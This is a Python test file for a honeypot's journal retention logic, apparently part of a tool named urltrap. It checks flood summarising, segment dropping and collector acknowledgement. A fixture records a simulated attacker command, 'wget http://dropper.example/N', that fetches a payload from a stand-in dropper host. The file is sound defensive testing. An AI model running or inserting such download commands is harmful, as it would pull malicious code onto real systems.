from __future__ import annotations

from datetime import timedelta
from pathlib import Path

from tests.journal.shipping.conftest import START, session_id, visit, write

from urltrap.journal import JournalReader, JournalWriter, Position
from urltrap.journal.shipping.keeping import BURST, Keeper, summed_up
from urltrap.journal.shipping.spool import Spool
from urltrap.journal.shipping.state import ShippingState
from urltrap.model.event import CommandEntered, Connected, Event, FloodCounted, LoginTried
from urltrap.model.fleet_settings import ShipSettings
from urltrap.model.settings import JournalSettings

FLOODER = "203.0.113.66"
LONG_AGO = START - timedelta(days=400)


def flood(writer: JournalWriter, sessions: int, first: int = 1000) -> None:
    # Some at a time: a segment is closed between two of them.
    for start in range(first, first + sessions, 20):
        visits = [visit(number, address=FLOODER) for number in range(start, start + 20)]
        write(writer, *(event for events in visits for event in events))


def interesting(writer: JournalWriter, number: int) -> None:
    write(writer, *visit(number, b"wget http://dropper.example/%d" % number))


def events(journal: Path) -> list[Event]:
    with JournalReader(journal) as reader:
        return [event for _, event in reader.read("trap-0", None, 1_000_000)]


def settings(spool: Spool, share: float) -> ShipSettings:
    """A bound that is this share of what there is now."""
    return ShipSettings.model_construct(spool_bytes=int(spool.used() * share), spool_hours=24)


def packed(spool: Spool, state: ShippingState) -> None:
    """Closed segments compressed, as they are when the bound is looked at again."""
    Keeper(spool, state, ShipSettings()).tidy(LONG_AGO)


def test_floods_are_summed_up_and_what_attackers_typed_stays(
    writer: JournalWriter, spool: Spool, state: ShippingState, journal: Path
) -> None:
    interesting(writer, 1)
    flood(writer, 400)
    interesting(writer, 2)
    packed(spool, state)
    Keeper(spool, state, settings(spool, 0.95)).tidy(LONG_AGO)
    kept = events(journal)
    commands = [event.session for event in kept if isinstance(event, CommandEntered)]
    assert commands == [session_id(1), session_id(2)]
    counted = [event for event in kept if isinstance(event, FloodCounted)]
    left = [event for event in kept if isinstance(event, Connected) and event.src_ip == FLOODER]
    assert counted and {event.src_ip for event in counted} == {FLOODER}
    assert sum(event.count for event in counted) + len(left) == 400, "every one of them is still counted"
    assert state.compacted_sessions == sum(event.count for event in counted)


def test_a_few_connections_are_no_flood_and_a_log_in_try_is_kept_longer(
    writer: JournalWriter, spool: Spool, state: ShippingState, journal: Path, settings: JournalSettings
) -> None:
    for number in range(BURST):
        write(writer, *visit(number, address="198.51.100.1"))
    for number in range(100, 100 + 2 * BURST):
        connect, close = visit(number, address=FLOODER)
        tried = LoginTried(
            session=connect.session, seq=1, at=START, method="password", username=b"root", password=b"x", accepted=False
        )  # fmt: skip
        write(writer, connect, tried, close.model_copy(update={"seq": 2}))
    data = spool.segments("trap-0")[0].path.read_bytes()
    assert summed_up(data, whole=False) == (data, 0)
    assert summed_up(data, whole=True)[1] == BURST + 2 * BURST


def test_a_segment_that_the_collector_may_know_is_never_changed(
    writer: JournalWriter, spool: Spool, state: ShippingState, journal: Path
) -> None:
    flood(writer, 400)
    packed(spool, state)
    number = spool.segments("trap-0")[0].number
    state.begin("trap-0", number)
    before = spool.segments("trap-0")[0].path.read_bytes()
    Keeper(spool, state, settings(spool, 0.01)).tidy(LONG_AGO)
    assert spool.segments("trap-0")[0].path.read_bytes() == before
    assert ShippingState(journal / "shipping.json").is_begun("trap-0", number), "also by the next process"


def test_what_the_collector_has_goes_before_anything_is_summed_up(
    writer: JournalWriter, spool: Spool, state: ShippingState
) -> None:
    flood(writer, 1000)
    packed(spool, state)
    segments = spool.segments("trap-0")
    assert len(segments) > 3
    state.acknowledge("trap-0", Position(segments[2].number, 0))
    Keeper(spool, state, settings(spool, 0.9)).tidy(LONG_AGO)
    assert [segment.number for segment in spool.segments("trap-0")] == [s.number for s in segments[2:]]
    assert state.compacted_sessions == state.dropped_segments == 0


def test_what_the_collector_has_is_kept_for_a_day(
    writer: JournalWriter, spool: Spool, state: ShippingState
) -> None:
    flood(writer, 400)
    packed(spool, state)
    state.acknowledge("trap-0", writer.position)
    keeper, first = Keeper(spool, state, ShipSettings()), spool.segments("trap-0")[0]
    written = START.fromtimestamp(first.path.stat().st_mtime, START.tzinfo)
    keeper.tidy(written + timedelta(hours=23))
    assert first.path.exists()
    keeper.tidy(written + timedelta(hours=25))
    assert not first.path.exists()
    assert len(spool.segments("trap-0")) == 1, "the last one stays: its number must not come again"


def test_where_summing_up_is_not_enough_the_oldest_goes_and_that_is_told(
    writer: JournalWriter, spool: Spool, state: ShippingState, journal: Path
) -> None:
    for start in range(0, 300, 20):
        visits = [visit(n, n.to_bytes(2, "big").hex().encode() * 100) for n in range(start, start + 20)]
        write(writer, *(event for events in visits for event in events))
    packed(spool, state)
    before = len(spool.segments("trap-0"))
    Keeper(spool, state, settings(spool, 0.8)).tidy(LONG_AGO)
    left = [event.session for event in events(journal) if isinstance(event, CommandEntered)]
    assert left == [session_id(number) for number in range(300 - len(left), 300)], "the newest are there"
    assert state.dropped_segments == before - len(spool.segments("trap-0")) > 0
    assert ShippingState(journal / "shipping.json").dropped_segments == state.dropped_segments
